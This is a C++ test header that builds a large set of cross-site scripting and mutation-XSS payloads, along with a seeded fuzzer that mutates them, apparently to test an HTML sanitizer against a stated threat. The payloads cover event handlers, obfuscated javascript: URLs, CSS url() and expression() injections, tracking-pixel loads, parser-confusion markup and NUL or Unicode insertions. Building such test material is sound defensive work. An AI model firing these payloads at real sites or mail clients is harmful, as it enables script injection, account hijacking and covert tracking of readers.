// SPDX-License-Identifier: Apache-2.0
// HTML that would run a script or load something where it is shown as it is: what threat T24 is proven with, in this
// folder by parsing the rendering again, in tests/browser by loading it.
#ifndef CASECOMM_TESTS_SCAN_HTML_PAYLOADS_H_
#define CASECOMM_TESTS_SCAN_HTML_PAYLOADS_H_

#include <random>
#include <string>
#include <string_view>
#include <vector>

namespace casecomm::scan {

class HtmlPayloads {
 public:
  // `script` is what is to run, without quotes in it; `host` what is to be loaded from: "http://127.0.0.1:1".
  HtmlPayloads(std::string_view script, std::string_view host) : script_(script), host_(host) {
    Events();
    Addresses();
    Styles();
    Loads();
    Mutations();
    Characters();
  }

  const std::vector<std::string>& all() const { return all_; }

  // Another payload, made of those above. The same seed gives the same ones.
  std::string Mutant(std::mt19937_64* random) const {
    const auto below = [&](size_t n) { return static_cast<size_t>((*random)() % n); };
    std::string text = all_[below(all_.size())];
    for (size_t steps = 1 + below(4); steps > 0; --steps) {
      const size_t at = below(text.size() + 1);
      switch (below(8)) {
        case 0:
          text.erase(at, 1 + below(6));
          break;
        case 1:
          text.insert(at, kPieces[below(std::size(kPieces))]);
          break;
        case 2:
          text.insert(at, all_[below(all_.size())]);
          break;
        case 3:
          text.insert(at, text.substr(below(text.size() + 1), below(20)));
          break;
        case 4:
          text = std::string(kPieces[below(std::size(kPieces))]) + text;
          break;
        case 5:
          text += all_[below(all_.size())];
          break;
        case 6:
          text.insert(at, kPieces[below(std::size(kPieces))].substr(0, 3));
          break;
        default:
          if (at < text.size()) text[at] = static_cast<char>(below(128));
      }
      if (text.size() > 4096) text.resize(4096);
    }
    return text;
  }

 private:
  void Add(std::string text) {
    for (const auto& [from, to] : {std::pair<std::string_view, std::string_view>{"{js}", script_}, {"{host}", host_}}) {
      for (size_t at = text.find(from); at != text.npos; at = text.find(from, at + to.size())) {
        text.replace(at, from.size(), to);
      }
    }
    all_.push_back(std::move(text));
  }

  static std::string With(std::string_view pattern, std::string_view value) {
    std::string text(pattern);
    text.replace(text.find("{}"), 2, value);
    return text;
  }

  // Handlers x elements x quoting.
  void Events() {
    constexpr std::string_view kEvents[] = {"onerror",
                                            "onload",
                                            "onfocus",
                                            "onfocusin",
                                            "onblur",
                                            "onclick",
                                            "onmouseover",
                                            "onmouseenter",
                                            "onpointerover",
                                            "onpointerdown",
                                            "ontoggle",
                                            "onbeforetoggle",
                                            "onanimationend",
                                            "onanimationstart",
                                            "ontransitionend",
                                            "onstart",
                                            "onbounce",
                                            "onscroll",
                                            "onwheel",
                                            "onloadstart",
                                            "onloadend",
                                            "oncanplay",
                                            "onplay",
                                            "onbegin",
                                            "onpageshow",
                                            "onhashchange",
                                            "onresize",
                                            "onselect",
                                            "oninvalid",
                                            "onsubmit",
                                            "oninput",
                                            "onchange",
                                            "oncut",
                                            "onpaste",
                                            "ondragstart",
                                            "onkeydown",
                                            "onmessage",
                                            "onreadystatechange",
                                            "onpropertychange",
                                            "onformdata",
                                            "onsecuritypolicyviolation",
                                            "ONERROR"};
    constexpr std::string_view kElements[] = {
        "<img src=x {}>",
        "<img src=\"cid:a@b\" {}>",
        "<svg {}>",
        "<svg><image href=x {}>",
        "<svg><animate attributeName=x dur=1s {}>",
        "<body {}>",
        "<div tabindex=0 autofocus {}>x</div>",
        "<a href=\"http://example.com/\" tabindex=0 autofocus {}>x</a>",
        "<details open {}><summary>x</summary>y</details>",
        "<video {}><source src=x></video>",
        "<audio src=x {}></audio>",
        "<input autofocus {}>",
        "<marquee {}>x</marquee>",
        "<iframe srcdoc=x {}></iframe>",
        "<object data=x {}></object>",
        "<x {} tabindex=0 autofocus>y</x>",
        "<table><tr><td {}>x</td></tr></table>",
        "<p style=\"color:red\"{}>x</p>",
    };
    for (const std::string_view event : kEvents) {
      for (const std::string_view element : kElements) Add(With(element, std::string(event) + "={js}"));
      Add("<img/src=x/" + std::string(event) + "={js}>");
      Add("<img src='x'" + std::string(event) + "='{js}'>");
      Add("<img src=x\n" + std::string(event) + "\n=\n\"{js}\">");
      Add("<svg><p/" + std::string(event) + "={js} tabindex=1 autofocus>");
      Add("<img src=x \"" + std::string(event) + "={js}\" " + std::string(event) + "=`{js}`>");
    }
  }

  // Schemes that run, in all the places that take an address.
  void Addresses() {
    constexpr std::string_view kSchemes[] = {
        "javascript:{js}",
        "JaVaScRiPt:{js}",
        " javascript:{js}",
        "&#1;javascript:{js}",
        "&#x0B;&#x1f;javascript:{js}",
        "java&#x0A;script:{js}",
        "java&#9;script:{js}",
        "java\tscript:{js}",
        "java\r\nscript:{js}",
        "java&NewLine;script&colon;{js}",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{js}",
        "&#0000106avascript:{js}",
        "javascript&#58;{js}",
        "javascript&#0;:{js}",
        "javascript://example.com/%0a{js}",
        "javascript:/*http://x*/{js}",
        "vbscript:{js}",
        "livescript:{js}",
        "mocha:{js}",
        "data:text/html,<script>parent.{js}</script>",
        "data:text/html;base64,PHNjcmlwdD5maXJlKDEpPC9zY3JpcHQ+",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>",
        "feed:javascript:{js}",
        "view-source:javascript:{js}",
        "jar:http://x!/a",
        "blob:http://x/y",
        "filesystem:http://x/y",
        "file:///etc/passwd",
        "\\\\host\\share",
        "//{host}",
        "http:relative",
        "https:/relative",
        "http:\\\\x",
        "mailto:x\" onclick={js} a=\"",
        "http://x/\" onmouseover={js} a=\"",
        "http://x/&quot; onmouseover={js} a=&quot;",
        "http://x/`onmouseover={js}`",
        "tel:1'onclick='{js}",
        "cid:a@b\" onerror={js} a=\"",
        "cid:&quot;onerror={js}//",
        "cid:%22%20onerror%3D{js}//",
    };
    constexpr std::string_view kPlaces[] = {
        "<a href=\"{}\">x</a>",
        "<a href='{}'>x</a>",
        "<img src=\"{}\">",
        "<img src=x srcset=\"{} 1x\">",
        "<iframe src=\"{}\"></iframe>",
        "<frameset><frame src=\"{}\">",
        "<object data=\"{}\"></object>",
        "<embed src=\"{}\">",
        "<form action=\"{}\"><button>x</button></form>",
        "<button formaction=\"{}\">x</button>",
        "<input type=image src=\"{}\" formaction=\"{}\">",
        "<base href=\"{}\"><a href=x>y</a>",
        "<meta http-equiv=refresh content=\"0;url={}\">",
        "<link rel=stylesheet href=\"{}\">",
        "<link rel=import href=\"{}\">",
        "<svg><a xlink:href=\"{}\"><text y=9>x</text></a></svg>",
        "<svg><use href=\"{}\"/></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=\"{}\"/><a id=x><text>y</text></a></svg>",
        "<svg><set attributeName=href to=\"{}\"/></svg>",
        "<math href=\"{}\">x</math>",
        "<math><maction actiontype=statusline xlink:href=\"{}\">x</maction></math>",
        "<isindex action=\"{}\" type=image>",
        "<body background=\"{}\">",
        "<table background=\"{}\"><td background=\"{}\">x</table>",
        "<video poster=\"{}\" src=\"{}\"></video>",
        "<audio src=\"{}\" autoplay></audio>",
        "<applet code=\"{}\"></applet>",
        "<area href=\"{}\"><map name=m><area href=\"{}\"></map>",
        "<blockquote cite=\"{}\">x</blockquote>",
        "<a href=\"http://example.com/\" ping=\"{}\">x</a>",
        "<script src=\"{}\"></script>",
        "<bgsound src=\"{}\">",
        "<p style=\"background:url('{}')\">x</p>",
    };
    for (const std::string_view scheme : kSchemes) {
      for (const std::string_view place : kPlaces) {
        std::string text = With(place, scheme);
        if (text.find("{}") != text.npos) text = With(text, scheme);
        Add(std::move(text));
      }
    }
  }

  void Styles() {
    constexpr std::string_view kValues[] = {
        "background:url({host}/s)",
        "background:URL( '{host}/s' )",
        "background-image:url(\"{host}/s\")",
        "list-style:url({host}/s)",
        "list-style-image:url({host}/s)",
        "cursor:url({host}/s),auto",
        "content:url({host}/s)",
        "border-image:url({host}/s) 1",
        "background:\\75rl({host}/s)",
        "background:u\\72 l({host}/s)",
        "background:u/**/rl({host}/s)",
        "background:/*;*/url({host}/s)",
        "color:red;/*}*/background:url({host}/s)",
        "color:red\\;background:url({host}/s)",
        "background:image-set('{host}/s' 1x)",
        "background:-webkit-image-set(url({host}/s) 1x)",
        "background:cross-fade(url({host}/s),red)",
        "background:element(#x)",
        "--x:url({host}/s);background:var(--x)",
        "filter:url({host}/s#x)",
        "mask:url({host}/s#x)",
        "clip-path:url({host}/s#x)",
        "shape-outside:url({host}/s)",
        "src:url({host}/s)",
        "offset-path:url({host}/s#x)",
        "width:expression({js})",
        "width:e\\78pression({js})",
        "width:exp/**/ression({js})",
        "xss:expr\\65ssion({js})",
        "behavior:url({host}/s)",
        "-moz-binding:url({host}/s#x)",
        "-ms-behavior:url({host}/s)",
        "color:red;position:fixed;top:0;left:0;width:9999px",
        "position:absolute;z-index:9999",
        "margin:-999px",
        "margin-left:calc(0px - 99em)",
        "animation:x 1s",
        "transform:scale(99)",
        "font-family:'x',url({host}/s)",
        "font-family:\"x\\\"}</style><img src=x onerror={js}>",
        "font-family:'</p><img src=x onerror={js}>'",
        "color:rgb(1,2,3",
        "color:rgb(1,url({host}/s),3)",
        "color:attr(x url)",
        "color:red}</style><script>{js}</script>",
        "@import '{host}/s'",
        "-o-link:'javascript:{js}';-o-link-source:current",
    };
    for (const std::string_view value : kValues) {
      Add("<p style=\"" + Escaped(value) + "\">x</p>");
      Add("<table style=\"color:red;" + Escaped(value) + ";color:blue\"><td>x</table>");
      Add("<body style=\"" + Escaped(value) + "\">x");
      Add("<style>p{" + std::string(value) + "}</style><p>x</p>");
      Add("<svg><style>*{" + std::string(value) + "}</style></svg>");
      Add("<div style='" + std::string(value) + "'>x</div>");
    }
    for (const std::string_view text :
         {"<style>@import '{host}/i';</style>", "<style>@import url({host}/i);</style><p>x",
          "<style>@font-face{font-family:x;src:url({host}/f)}p{font-family:x}</style><p>x",
          "<style><!--</style><img src=x onerror={js}>--></style>", "<link rel=stylesheet href={host}/l>",
          "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart={js}>x"}) {
      Add(std::string(text));
    }
  }

  static std::string Escaped(std::string_view value) {
    std::string text;
    for (const char c : value) text += c == '"' ? "&quot;" : std::string(1, c);
    return text;
  }

  // What would be fetched without a script: pixels that tell that a mail was read.
  void Loads() {
    for (const std::string_view text : {
             "<img src={host}/1>",
             "<img src=//{host}/1>",
             "<img srcset='{host}/1 1x, {host}/2 2x'>",
             "<img src=cid:x@y srcset='{host}/1 1x'>",
             "<img src=cid:x@y lowsrc={host}/1 dynsrc={host}/2 longdesc={host}/3>",
             "<image src={host}/1>",
             "<picture><source srcset={host}/1><img src={host}/2></picture>",
             "<body background={host}/1>",
             "<table background={host}/1><tr background={host}/2><td background={host}/3>x</table>",
             "<video poster={host}/1 src={host}/2 autoplay preload=auto></video>",
             "<video><source src={host}/1><track src={host}/2 default></video>",
             "<audio src={host}/1 preload=auto></audio>",
             "<iframe src={host}/1></iframe>",
             "<iframe srcdoc='<img src={host}/1>'></iframe>",
             "<object data={host}/1></object>",
             "<object type=text/html data={host}/1><param name=src value={host}/2></object>",
             "<embed src={host}/1>",
             "<applet codebase={host}/1 code=x></applet>",
             "<link rel=stylesheet href={host}/1>",
             "<link rel=prefetch href={host}/1>",
             "<link rel=preload as=image href={host}/1>",
             "<link rel=dns-prefetch href={host}>",
             "<link rel=preconnect href={host}>",
             "<link rel=icon href={host}/1>",
             "<link rel=manifest href={host}/1>",
             "<meta http-equiv=refresh content='0;url={host}/1'>",
             "<meta http-equiv=Content-Security-Policy content='default-src *; report-uri {host}/1'>",
             "<base href={host}/><img src=1>",
             "<script src={host}/1></script>",
             "<script type=module>import '{host}/1'</script>",
             "<input type=image src={host}/1>",
             "<svg><image href={host}/1 /><image xlink:href={host}/2 /></svg>",
             "<svg><use href={host}/1#x /></svg>",
             "<svg><filter id=f><feImage href={host}/1 /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
             "<svg><style>@import '{host}/1';</style></svg>",
             "<bgsound src={host}/1>",
             "<frameset><frame src={host}/1></frameset>",
             "<form action={host}/1><input type=submit id=s></form>",
             "<a href=http://x.example/ ping={host}/1>x</a>",
             "<html manifest={host}/1>",
             "<portal src={host}/1></portal>",
             "<template><img src={host}/1></template>",
             "<noscript><img src={host}/1></noscript>",
             "<noembed><img src={host}/1></noembed>",
             "<xmp><img src={host}/1></xmp>",
             "<textarea><img src={host}/1></textarea>",
             "<title><img src={host}/1></title>",
             "<comment><img src={host}/1></comment>",
             "<!--[if gte mso 9]><v:rect><v:fill src={host}/1 /></v:rect><![endif]-->",
             "<!--[if !mso]><!--><img src={host}/1><!--<![endif]-->",
             "<v:imagedata src={host}/1>",
             "<?xml-stylesheet href='{host}/1'?>",
             "<!DOCTYPE html SYSTEM '{host}/1'>",
             "<esi:include src={host}/1>",
         }) {
      Add(std::string(text));
    }
  }

  // Markup that one parser reads as text and the next as elements (mXSS), and structures that are moved about.
  void Mutations() {
    const std::string fire = "<img src=x onerror={js}>";
    constexpr std::string_view kRaw[] = {
        "noscript",      "style",     "title",   "textarea",   "xmp",      "iframe",
        "noembed",       "noframes",  "script",  "template",   "select",   "option",
        "svg",           "math",      "desc",    "mtext",      "mglyph",   "annotation-xml",
        "foreignObject", "plaintext", "listing", "malignmark", "frameset", "object",
        "form",          "p",         "b"};
    for (const std::string_view raw : kRaw) {
      const std::string name(raw);
      Add("<" + name + "><p title=\"</" + name + ">" + fire + "\">x</p></" + name + ">");
      Add("<" + name + "><!--</" + name + ">" + fire + "-->");
      Add("<" + name + "><![CDATA[</" + name + ">" + fire + "]]>");
      Add("<p title='<" + name + ">'>x</p><p title=\"</" + name + ">" + fire + "\">");
      for (const std::string_view outer :
           {"svg", "math", "table", "select", "form", "noscript", "template", "p", "a", "title"}) {
        const std::string around(outer);
        Add("<" + around + "><" + name + "><a title=\"</" + name + ">" + fire + "\">");
        Add("<" + around + "></p><" + name + "><g title=\"</" + name + ">" + fire + "\">");
        Add("<" + around + "><desc><" + name + "><style><a id=\"</style>" + fire + "\">");
      }
    }
    for (const std::string_view text : {
             "<svg></p><style><a id=\"</style>{f}\">",
             "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
             "<form><math><mtext></form><form><mglyph><style></math>{f}",
             "<math><mtext><table><mglyph><style><math>{f}",
             "<math><annotation-xml encoding=\"text/html\"><style>{f}</style></annotation-xml></math>",
             "<math><mi><table><mglyph><svg><mtext><textarea><path id=\"</textarea>{f}\">",
             "<svg><foreignObject><math><mi></svg>{f}",
             "<svg><title><style>{f}</style></title></svg>",
             "<table><tr><td><table><noscript>{f}</noscript>",
             "<table><svg><style>{f}</style></svg></table>",
             "<table><math><select><mi><select></table>{f}",
             "<select><template>{f}</template></select>",
             "<select><iframe><script>{js}</script></iframe></select>",
             "<template><form><template></form>{f}</template>",
             "<form><form>{f}</form></form>",
             "<form id=x></form><button form=x formaction=javascript:{js}>x</button>",
             "<p><form><p></form>{f}",
             "<a><table><a href=javascript:{js}>x</table></a>",
             "<a href=http://x.y><b><a href=javascript:{js}>x</b></a>",
             "<b><p><table><b></p>{f}",
             "<nobr><nobr><nobr><p>{f}",
             "<!-- --!>{f}<!-- -->",
             "<!-->{f}-->",
             "<!--->{f}-->",
             "<!-- a -- >{f}-->",
             "<!--<img src=\"-->{f}\">",
             "<!foo {f}>",
             "<?foo {f}>",
             "</ {f}>",
             "</p/{f}>",
             "<![CDATA[{f}]]>",
             "<svg><![CDATA[><img src=x onerror={js}>]]></svg>",
             "<plaintext>{f}",
             "<xmp><p title=\"</xmp>{f}\">",
             "<listing>&lt;img src=x onerror={js}&gt;</listing>",
             "<pre>\n\n&lt;img src=x onerror={js}&gt;</pre>",
             "&lt;script&gt;{js}&lt;/script&gt;",
             "&amp;lt;script&amp;gt;{js}",
             "<p title=\"&quot;&gt;{f}\">x</p>",
             "<p title=`>{f}`>x</p>",
             "<p title=\"`><img src=x onerror={js}>\">x</p>",
             "<img alt=\"``onerror={js}\" src=\"cid:a@b\">",
             "<img alt=\"&#96;&#96;onerror={js}\" src=\"cid:a@b\">",
             "<img src=\"cid:a@b\" alt=\"x\" alt='\" onerror={js}'>",
             "<script>{js}</script>",
             "<script>{js}",
             "<script/x>{js}</script>",
             "<scr<script>ipt>{js}</scr</script>ipt>",
             "<SCRIPT a=\">\">{js}</SCRIPT>",
             "<<script>{js}//<</script>",
             "<svg><script>{js}</script></svg>",
             "<svg><script href=\"data:,{js}\"/></svg>",
             "<math><script>{js}</script></math>",
             "<svg><script>&#102;ire(1)</script></svg>",
             "<p><svg><style><b></style>{f}",
             "<img src=x onerror={js}//",
             "<img src=x onerror=\"{js}",
             "<img src=\"x` `<script>{js}</script>\"` `>",
             "<div id=x name=x class=x>a<input name=attributes><input name=parentNode></div>",
             "<a id=fire href=cid:x><a id=fire name=length>",
             "<img name=getElementById><form name=body>",
             "<isindex prompt=\"{f}\">",
             "<isindex type=image src=x onerror={js}>",
             "<keygen autofocus onfocus={js}>",
             "<frameset onload={js}><frame>",
             "<head><base href=javascript:{js}/></head><body><a href=x>y",
             "<html onclick={js}><head onclick={js}><body onload={js}><body onfocus={js}>",
             "<table><caption><svg><desc><td>{f}",
             "<ruby><rt><svg><desc><ruby></rt>{f}",
             "<button><p><button>{f}",
             "<li><svg><desc><li>{f}",
             "<h1><svg><desc></h1>{f}",
             "<table><td><svg><foreignObject></td>{f}",
             "<dialog open>{f}</dialog><slot>{f}</slot>",
             "<input type=hidden style='x' oncontentvisibilityautostatechange={js}>",
             "<x contenteditable onbeforeinput={js}>y</x>",
             "<link rel=modulepreload onload={js} href=data:,>",
             "<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-",
             "<math><a xlink:href=\"javascript:{js}\">x</a></math>",
             "<svg onload={js} xmlns=http://www.w3.org/2000/svg>",
             "<svg><animatetransform onbegin={js} attributeName=transform>",
             "<svg><discard onbegin={js}>",
             "<div popover id=p onbeforetoggle={js}>x</div><button popovertarget=p>y</button>",
             "<template shadowrootmode=open>{f}</template>",
             "<div><template shadowrootmode=open><script>{js}</script></template></div>",
         }) {
      std::string filled(text);
      for (size_t at = filled.find("{f}"); at != filled.npos; at = filled.find("{f}")) filled.replace(at, 3, fire);
      Add(std::move(filled));
    }
  }

  // NUL and other characters at every place of a payload where a filter may look elsewhere than a parser.
  void Characters() {
    for (const std::string_view seed : {"<img src=x onerror={js}>", "<a href=\"javascript:{js}\">x</a>",
                                        "<svg/onload={js}>", "<script>{js}</script>"}) {
      for (size_t at = 0; at <= 12; ++at) {
        for (const std::string_view piece :
             {std::string_view("\0", 1), std::string_view("\v", 1), std::string_view("\f", 1), std::string_view("/"),
              std::string_view("\xEF\xBB\xBF"), std::string_view("\xC2\xA0"), std::string_view("\xE2\x80\xAE"),
              std::string_view("\xEF\xBC\x9C"), std::string_view("&#0;"), std::string_view("<!---->")}) {
          std::string text(seed);
          text.insert(at, piece);
          Add(std::move(text));
        }
      }
    }
  }

  static constexpr std::string_view kPieces[] = {"<",
                                                 ">",
                                                 "\"",
                                                 "'",
                                                 "`",
                                                 "=",
                                                 "/",
                                                 "&",
                                                 ";",
                                                 " ",
                                                 "\n",
                                                 "\t",
                                                 "\r",
                                                 "\f",
                                                 "--",
                                                 "-->",
                                                 "<!--",
                                                 "<!",
                                                 "</",
                                                 "&#x0A;",
                                                 "&quot;",
                                                 "&lt;",
                                                 "&gt;",
                                                 "&amp;",
                                                 "&#96;",
                                                 "&nbsp;",
                                                 "&#0;",
                                                 "]]>",
                                                 "<![CDATA[",
                                                 "<table>",
                                                 "</table>",
                                                 "<tr>",
                                                 "<td>",
                                                 "<caption>",
                                                 "<colgroup>",
                                                 "<col>",
                                                 "<svg>",
                                                 "</svg>",
                                                 "<math>",
                                                 "<mtext>",
                                                 "<mglyph>",
                                                 "<style>",
                                                 "</style>",
                                                 "<title>",
                                                 "</title>",
                                                 "<noscript>",
                                                 "</noscript>",
                                                 "<textarea>",
                                                 "</textarea>",
                                                 "<template>",
                                                 "</template>",
                                                 "<select>",
                                                 "</select>",
                                                 "<option>",
                                                 "<form>",
                                                 "</form>",
                                                 "<p>",
                                                 "</p>",
                                                 "<b>",
                                                 "</b>",
                                                 "<i>",
                                                 "<a href=\"http://x.y/\">",
                                                 "</a>",
                                                 "<div>",
                                                 "</div>",
                                                 "<span style=\"color:red\">",
                                                 "</span>",
                                                 "<pre>\n",
                                                 "<listing>",
                                                 "<plaintext>",
                                                 "<xmp>",
                                                 "<iframe>",
                                                 "<body>",
                                                 "</body>",
                                                 "<html>",
                                                 "<head>",
                                                 "</head>",
                                                 "<frameset>",
                                                 "<isindex>",
                                                 "<li>",
                                                 "<dd>",
                                                 "<h1>",
                                                 "</h2>",
                                                 "<nobr>",
                                                 "<button>",
                                                 "</button>",
                                                 "<ruby>",
                                                 "<rt>",
                                                 "<br>",
                                                 "</br>",
                                                 "<hr>",
                                                 "<img src=\"cid:a@b\">",
                                                 "<font color=red>",
                                                 "<center>",
                                                 "<foreignObject>",
                                                 "<desc>",
                                                 "<annotation-xml encoding=text/html>",
                                                 " style=\"",
                                                 " href=\"",
                                                 "url(",
                                                 "javascript:",
                                                 " onerror=",
                                                 "\\",
                                                 "/*"};

  const std::string script_, host_;
  std::vector<std::string> all_;
};

}  // namespace casecomm::scan

#endif  // CASECOMM_TESTS_SCAN_HTML_PAYLOADS_H_
